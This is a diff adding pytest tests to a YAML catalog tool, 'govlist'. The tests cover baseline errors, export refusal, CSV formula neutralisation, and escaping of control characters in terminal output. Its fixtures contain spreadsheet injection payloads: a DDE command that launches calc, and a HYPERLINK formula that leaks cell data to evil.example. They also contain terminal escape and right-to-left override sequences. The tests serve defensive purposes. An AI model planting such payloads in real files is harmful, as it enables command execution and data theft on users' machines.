@@ -73,3 +73,124 @@ def test_export_names_the_file_and_position(govlist, bad_set):
 def test_diff_reports_the_bad_side_as_a_finding(govlist, bad_set, order):
     result = govlist("diff", *order)
     assert result.exit_code in (0, 1) and "a.yaml:8:10" in result.output and "parse.value" in result.output
+
+
+# --- baseline ---------------------------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("until, needle", [("0x_", "'0x_' cannot be read as an integer"), ("[1, {a: 2}]", "until must be a date")])
+def test_a_bad_date_in_the_baseline_names_the_baseline_not_the_clock(govlist, bad_set, until, needle):
+    govlist("baseline", ".")
+    path = bad_set / ".govlist-baseline.yaml"
+    text = path.read_text(encoding="utf-8")
+    path.write_text(text.replace("    rule:", f"    until: {until}\n    rule:", 1), encoding="utf-8")
+    for command in (["validate", "."], ["baseline", "."]):
+        result = govlist(*command)
+        assert result.exit_code == 2 and ".govlist-baseline.yaml:" in result.output and needle in result.output
+        assert "GOVLIST_TODAY" not in result.output
+    assert path.read_text(encoding="utf-8").count("until:") == 1  # govlist baseline did not overwrite it
+
+
+# --- export -----------------------------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("extra, where", [("declared: [1]\nitems:\n  - name: 一\n", "e.yaml:5:11"), ("items: 5\n", "e.yaml:5:8"), ("items:\n  - name: [a, b]\n", "e.yaml:6:11")])
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_export_refuses_a_schema_invalid_catalog(govlist, tmp_path, extra, where, fmt):
+    (tmp_path / "e.yaml").write_text("govlist: 1\nkind: duty\nid: a\ntitle: t\n" + extra, encoding="utf-8")
+    result = govlist("export", "e.yaml", "-o", f"e.{fmt}")
+    assert result.exit_code == 2 and where in result.output and "not exported" in result.output
+    assert not (tmp_path / f"e.{fmt}").exists()
+
+
+FORMULAS = """\
+govlist: 1
+kind: duty
+id: a
+title: "=cmd|' /C calc'!A0"
+items:
+  - name: "=HYPERLINK(\\"http://evil.example/?leak=\\"&A3,\\"点击\\")"
+    content: "'=already quoted"
+    code: "-1"
+  - name: "'plain quote"
+    content: "@SUM(1)"
+  - name: "+1"
+    content: "-2 (a leading tab or space is trimmed by import anyway)"
+"""
+
+
+def test_csv_export_neutralises_formulas_and_import_restores_them(govlist, tmp_path):
+    import csv
+    import io
+
+    import yaml
+
+    (tmp_path / "f.yaml").write_text(FORMULAS, encoding="utf-8")
+    assert govlist("export", "f.yaml", "-o", "f.csv").exit_code == 0
+    cells = [c for row in csv.reader(io.StringIO((tmp_path / "f.csv").read_text(encoding="utf-8-sig"))) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A3,\"点击\")" in cells and "''=already quoted" in cells and "'plain quote" in cells
+    assert govlist("import", "f.csv", "--kind", "duty", "-o", "g.yaml").exit_code == 0
+    before = yaml.safe_load(FORMULAS)
+    after = yaml.safe_load((tmp_path / "g.yaml").read_text(encoding="utf-8"))
+    assert after == before
+
+
+def test_neutralise_and_restore_are_inverse():
+    from govlist.formulas import neutralise, restore
+
+    for value in ["=1", "'=1", "''=1", "'", "''", "'abc", "abc", "-", "@", "\t", "\r\n", "", "＝全角", 5, None]:
+        assert restore(neutralise(value)) == value
+        assert not str(neutralise(value)).startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+# --- what reaches the terminal and the report files -------------------------------------------------------------------
+
+ESCAPES = 'govlist: 1\nkind: duty\nid: a\ntitle: t\ndeclared: {items: 2}\nitems:\n  - name: "\\e[2J\\e]8;;http://evil\\a点击\\e]8;;\\a\\u202e"\n  - name: "\\e[2J\\e]8;;http://evil\\a点击\\e]8;;\\a\\u202e"\n'
+
+
+@pytest.mark.parametrize("command", [["validate", "."], ["stats", "."], ["diff", "a.yaml", "b.yaml"]])
+def test_control_characters_in_catalog_text_are_escaped_on_the_terminal(govlist, tmp_path, command):
+    (tmp_path / "a.yaml").write_text(ESCAPES, encoding="utf-8")
+    (tmp_path / "b.yaml").write_text(ESCAPES.replace("点击", "点"), encoding="utf-8")
+    output = govlist(*command).output
+    assert "\x1b" not in output and "\x07" not in output and "\u202e" not in output
+    if command[0] != "stats":
+        assert "\\x1b[2J\\x1b]8;;http://evil\\x07" in output
+
+
+def test_printable_escapes_controls_and_keeps_text():
+    from govlist.display import printable
+
+    assert printable("巡查\x1b[31m\x9b\u202e\n") == "巡查\\x1b[31m\\x9b\\u202e\\x0a"
+    assert printable("一\n二\x07", keep_newlines=True) == "一\n二\\x07"
+
+
+@pytest.mark.skipif(__import__("sys").platform in ("win32", "darwin"), reason="needs a file system that takes any bytes as a name")
+@pytest.mark.parametrize("fmt", ["json", "sarif", "junit", "github", "text"])
+def test_a_file_name_that_is_not_utf8_is_written_safely(govlist, tmp_path, fmt):
+    import json
+    import os
+
+    os.chdir(tmp_path)
+    with open(os.fsencode(tmp_path) + b"/\xff\xfe-bad.yaml", "wb") as handle:
+        handle.write(GOOD.replace("items: 1", "items: 2").encode("utf-8"))
+    result = govlist("validate", ".", "-f", fmt, "-o", f"r.{fmt}")
+    assert result.exit_code == 1
+    raw = (tmp_path / f"r.{fmt}").read_bytes()
+    text = raw.decode("utf-8")  # valid UTF-8
+    shown = {"json": lambda: json.loads(text)["findings"][0]["file"], "sarif": lambda: json.loads(text)["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]}
+    assert (shown[fmt]() if fmt in shown else text).count("xff") >= 1
+    stdout = govlist("validate", ".", "-f", fmt).stdout_bytes
+    stdout.decode("utf-8")
+
+
+def test_diff_reports_a_fifo_on_one_side_and_compares_the_rest(govlist, tmp_path):
+    import os
+
+    if not hasattr(os, "mkfifo"):
+        pytest.skip("no FIFOs on this OS")
+    for side in ("old", "new"):
+        (tmp_path / side).mkdir()
+        (tmp_path / side / "b.yaml").write_text(GOOD, encoding="utf-8")
+    os.mkfifo(tmp_path / "new" / "f.yaml")
+    result = govlist("diff", "old", "new")
+    assert "new/f.yaml:1:1" in result.output and "parse.io" in result.output
